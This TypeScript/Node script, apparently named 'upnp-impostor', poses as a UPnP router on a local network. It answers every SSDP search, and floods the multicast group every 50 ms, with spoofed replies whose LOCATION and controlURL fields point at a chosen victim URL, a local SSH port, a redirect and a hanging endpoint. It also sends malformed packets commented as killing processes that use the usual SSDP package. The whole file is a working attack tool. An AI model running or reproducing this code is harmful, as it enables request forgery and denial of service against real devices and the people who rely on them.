import { createSocket } from 'node:dgram'
import { createServer } from 'node:http'

/**
 * A device that wants to be the router: it answers each search with everything that might lead somewhere or break something, also unasked, and serves a
 * description whose orders go to others. `upnp-impostor OWN-ADDRESS VICTIM-URL`.
 */
const GROUP = '239.255.255.250'
const PORT = 1900
const KIND = 'urn:schemas-upnp-org:device:InternetGatewayDevice:1'
const SERVICE = 'urn:schemas-upnp-org:service:WANIPConnection:1'
const EVERY_MS = 50

const [own = '', victim = ''] = process.argv.slice(2)
const say = (event: Record<string, unknown>): void => void process.stdout.write(`${JSON.stringify(event)}\n`)

const description = `<root><device><serviceList><service><serviceType>${SERVICE}</serviceType><controlURL>${victim}</controlURL></service></serviceList></device></root>`
const server = createServer((question, answer) => {
  say({ event: 'visit', path: question.url })
  if (question.url === '/elsewhere') answer.writeHead(302, { Location: victim }).end()
  else if (question.url === '/silent') return
  else answer.end(description)
})
server.listen(8_080, own, () => say({ event: 'serving' }))

const found = (location: string): string =>
  `HTTP/1.1 200 OK\r\nCACHE-CONTROL: max-age=1800\r\nST: ${KIND}\r\nUSN: uuid:1::${KIND}\r\nLOCATION: ${location}\r\n\r\n`
const packets = [
  found(victim),
  found('http://127.0.0.1:22/'),
  found(`http://${own}:8080/root.xml`),
  found(`http://${own}:8080/elsewhere`),
  found(`http://${own}:8080/silent`),
  // Each of these ends a process that uses the usual package.
  'SURPRISE * HTTP/1.1\r\n\r\n',
  `NOTIFY * HTTP/1.1\r\nNT: ${KIND}\r\nNTS: ssdp:alive\r\nUSN: uuid:1\r\nLOCATION: ${victim}\r\n\r\n`,
  `HTTP/1.1 200 OK\r\nST: ${KIND}\r\nUSN: uuid:1\r\nLOCATION: ${victim}\r\n\r\n`,
  ''
]

const socket = createSocket({ type: 'udp4', reuseAddr: true })
socket.on('message', (data, { address, port }) => {
  if (!data.toString().startsWith('M-SEARCH')) return
  say({ event: 'search' })
  for (const packet of packets) socket.send(packet, port, address)
})
socket.bind(PORT, () => socket.addMembership(GROUP, own))
setInterval(() => {
  for (const packet of packets) socket.send(packet, PORT, GROUP)
}, EVERY_MS)
